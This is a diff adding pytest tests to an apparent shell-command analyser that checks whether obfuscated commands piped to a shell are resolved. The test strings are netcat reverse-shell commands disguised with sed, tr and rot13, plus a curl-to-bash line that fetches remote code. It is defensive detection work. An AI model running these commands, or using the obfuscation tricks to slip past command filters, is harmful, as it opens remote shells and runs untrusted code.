@@ -304,3 +304,33 @@ def test_what_a_shell_runs_of_other_programs_output():
     # no loop over a substitution whose output is unknown: read once, named by its text
     cmds = ShellReader().read('bash -c "$(curl -s https://x.example/i)"', Session())
     assert [c.name for c in cmds] == ["curl", "bash", "curl", "$(curl -s https://x.example/i)"]
+
+
+@pytest.mark.parametrize("text", [
+    "echo 'mc -e /bin/sh 10.0.0.1 4444' | sed 's/^m/n/' | sh",
+    "printf '%s\\n' '~c -e /bi~/sh 10.0.0.1 4444' | sed -e 's/~/n/g' | bash",
+    "echo 'ap -r /ova/fu 10.0.0.1 4444' | tr 'a-z' 'n-za-m' | sh",
+    "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed 's/x/y/' | sh",
+    # filters whose output is not computed pass on what they were given
+    "echo 'nc -e /bin/sh 10.0.0.1 4444' | grep nc | sh",
+    "echo 'nc -e /bin/sh 10.0.0.1 4444' | awk '{print}' | sh",
+    "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed '1s/x/y/' | head -n 1 | bash",
+])
+def test_text_rewritten_by_a_filter_on_its_way_to_a_shell_is_read(text):
+    nc = find(text, "nc")
+    assert nc.args == ["-e", "/bin/sh", "10.0.0.1", "4444"]
+
+
+def test_a_filter_whose_output_feeds_nothing_runs_nothing_more():
+    assert names("echo 'nc -e /bin/sh h 1' | sed 's/x/y/'") == ["echo", "sed"]
+    assert names("printf 'a\\nb\\n' | sort | uniq -c") == ["printf", "sort", "uniq"]
+
+
+def test_a_redirection_after_a_pipeline_writes_the_last_command_s_output():
+    session = Session()
+    cmds = reader.read("echo 'mc -e /bin/sh 10.0.0.1 4444' | tr m n > /tmp/r.sh; bash /tmp/r.sh", session)
+    assert session.lookup("/tmp/r.sh") == "nc -e /bin/sh 10.0.0.1 4444\n"
+    assert [c.name for c in cmds].count("nc") >= 1
+    tr = next(c for c in cmds if c.name == "tr")
+    echo = next(c for c in cmds if c.name == "echo")
+    assert "/tmp/r.sh" in tr.writes and "/tmp/r.sh" not in echo.writes  # the shell gives it to the last
